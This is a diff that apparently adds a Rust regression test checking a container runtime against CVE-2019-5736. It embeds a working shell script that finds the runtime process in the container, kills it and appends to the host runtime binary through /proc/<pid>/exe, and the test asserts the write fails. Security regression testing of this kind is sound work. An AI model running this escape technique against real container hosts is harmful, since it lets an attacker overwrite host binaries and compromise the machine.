@@ -1,0 +1,123 @@
+//! Class 2 (CVE-2019-5736): a container process opens the runtime's binary through
+//! `/proc/<pid>/exe` of a runtime process that entered the container and writes it once that
+//! process is gone. The payload here makes the runtime enter the container for as long as the
+//! attacker needs: `exec c /proc/self/exe sif list /fifo` executes the runtime's own binary
+//! inside the container, blocked opening a FIFO; the attacker opens its `exe`, releases it and
+//! appends to the binary through the saved descriptor.
+//!
+//! The runtime runs from a private copy owned by the test identity (so root in a rootless
+//! container, mapped to that identity, has write permission on it, the case of a binary the
+//! caller built itself) and so that no other test's use of the binary makes the write fail
+//! with `ETXTBSY`.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use sha2::{Digest, Sha256};
+
+use crate::common::*;
+use crate::need;
+
+const ATTACK: &str = r#"#!/bin/sh
+# Find the runtime process that is in the container, keep its exe open, let it go, write.
+pid=
+for i in $(seq 200); do
+  for p in /proc/[0-9]*; do
+    case "$(tr '\0' ' ' < $p/cmdline 2>/dev/null)" in
+      *"sif list /fifo"*) pid=${p#/proc/}; break 2;;
+    esac
+  done
+  sleep 0.05
+done
+[ -n "$pid" ] || { echo "no runtime process seen" > /out/result; exit 0; }
+exec 3< /proc/$pid/exe || { echo "exe not readable" > /out/result; exit 0; }
+kill -9 $pid
+for i in $(seq 100); do
+  if (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then echo written > /out/result; exit 0; fi
+  sleep 0.05
+done
+echo "write refused" > /out/result
+"#;
+
+fn digest(p: &Path) -> String {
+    let d = Sha256::digest(std::fs::read(p).unwrap());
+    d.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// The dynamic loader and libraries of `bin` at their host paths under `rootfs`, as an image
+/// with a C library has them.
+fn copy_libraries(bin: &Path, rootfs: &Path) {
+    let o = std::process::Command::new("ldd").arg(bin).output().unwrap();
+    for word in String::from_utf8_lossy(&o.stdout).split_whitespace() {
+        if word.starts_with('/') {
+            let dest = rootfs.join(word.trim_start_matches('/'));
+            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
+            std::fs::copy(word, &dest).unwrap();
+        }
+    }
+}
+
+fn overwrite_through_proc_exe(who: Who) {
+    need!(who);
+    let s = Scratch::new(who);
+    let bin_dir = s.path().join("rt");
+    std::fs::create_dir(&bin_dir).unwrap();
+    let rt: PathBuf = bin_dir.join("singlet-oci");
+    std::fs::copy(singlet(), &rt).unwrap();
+    std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o755)).unwrap();
+    s.own(&bin_dir);
+    let before = digest(&rt);
+
+    let b = s.bundle("b", &["sleep", "60"]);
+    let rootfs = b.dir.join("rootfs");
+    nix::unistd::mkfifo(
+        &rootfs.join("fifo"),
+        nix::sys::stat::Mode::from_bits_truncate(0o666),
+    )
+    .unwrap();
+    copy_libraries(&rt, &rootfs);
+    std::fs::write(rootfs.join("attack.sh"), ATTACK).unwrap();
+    std::fs::set_permissions(
+        rootfs.join("attack.sh"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    s.own(&rootfs);
+    let root = s.root();
+    let oci = |args: &[&str]| {
+        let mut c = s.cmd(&rt);
+        c.arg("--root").arg(&root).args(args);
+        s.run(c)
+    };
+    let o = oci(&["run", "-d", "--bundle", b.path(), "c"]);
+    assert!(o.status.success(), "{o:?}");
+    let o = oci(&["exec", "-d", "c", "/attack.sh"]);
+    assert!(o.status.success(), "{o:?}");
+    let o = oci(&["exec", "-d", "c", "/proc/self/exe", "sif", "list", "/fifo"]);
+    assert!(o.status.success(), "{o:?}");
+    let t = Instant::now();
+    while b.read_out("result").is_empty() && t.elapsed() < Duration::from_secs(30) {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let _ = oci(&["delete", "--force", "c"]);
+    let result = b.read_out("result");
+    let after = digest(&rt);
+    assert_eq!(
+        before, after,
+        "the runtime binary was overwritten from the container ({result})"
+    );
+    assert!(!result.is_empty(), "the attack did not finish");
+    assert!(!result.starts_with("written"), "{result}");
+    eprintln!("attack result: {}", result.trim());
+}
+
+#[test]
+fn overwrite_through_proc_exe_root() {
+    overwrite_through_proc_exe(Who::Root);
+}
+
+#[test]
+fn overwrite_through_proc_exe_unprivileged() {
+    overwrite_through_proc_exe(Who::User);
+}
